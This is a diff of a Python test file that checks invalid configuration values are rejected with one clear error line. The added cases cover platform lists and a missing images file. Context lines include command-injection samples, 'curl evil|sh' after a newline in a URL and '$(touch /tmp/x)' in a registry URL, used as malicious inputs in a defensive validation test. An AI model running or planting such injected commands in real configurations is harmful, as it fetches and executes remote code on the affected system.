@@ -70,6 +70,10 @@ def assert_one_line_error(proc, *needles: str) -> None:
         ('base_url: "http://u:8080\\ncurl evil|sh"\n', ["key 'base_url'"]),
         ("registry: {url: 'u:5000$(touch /tmp/x)'}\n", ["key 'registry.url'", "HOST[:PORT]"]),
         ('releasever: [".."]\n', ["key 'releasever'", "plain names"]),
+        # Validated by the config object once, not when the image sync first needs them.
+        ("platforms: [linux]\n", ["key 'platforms'", "os/arch"]),
+        ("platforms: []\n", ["key 'platforms'"]),
+        ("images_file: ./no-such-images.txt\n", ["key 'images_file'", "no such file"]),
     ],
 )
 def test_invalid_config_is_one_clear_line(tmp_path: Path, config: str, needles: list[str]) -> None:
